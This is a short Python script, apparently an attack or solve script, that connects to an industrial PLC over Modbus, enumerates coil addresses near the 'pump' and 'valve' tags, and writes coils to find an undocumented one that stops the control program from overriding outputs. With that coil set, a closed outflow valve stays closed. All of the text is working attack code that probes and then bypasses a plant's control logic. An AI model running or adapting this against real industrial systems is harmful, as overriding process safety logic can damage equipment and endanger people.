client = Client(PARAMS["host"], PARAMS["port"], PARAMS["unit"])
objects = client.identification(3)
pump = find_tag(objects, "CO", "pump")
valve = find_tag(objects, "CO", "valve")


def coil_block(around):
    """Addresses near a known coil that the PLC answers for (others give exception 2)."""
    present = []
    for address in range(max(0, around - 16), around + 17):
        try:
            client.read_bits(1, address, 1)
            present.append(address)
        except ModbusError:
            pass
    return present


def find_bypass():
    """The undocumented coil that stops the program overriding the outputs: with it set, a
    closed outflow valve stays closed (in automatic mode the program opens it again)."""
    for candidate in coil_block(pump):
        if candidate in (pump, valve):
            continue
        client.write_coil(candidate, True)
        client.write_coil(valve, False)
        time.sleep(0.3)
        if not client.read_bits(1, valve, 1)[0]:
            client.write_coil(valve, True)
            return candidate
        client.write_coil(candidate, False)
    raise LookupError("no coil bypasses the program")
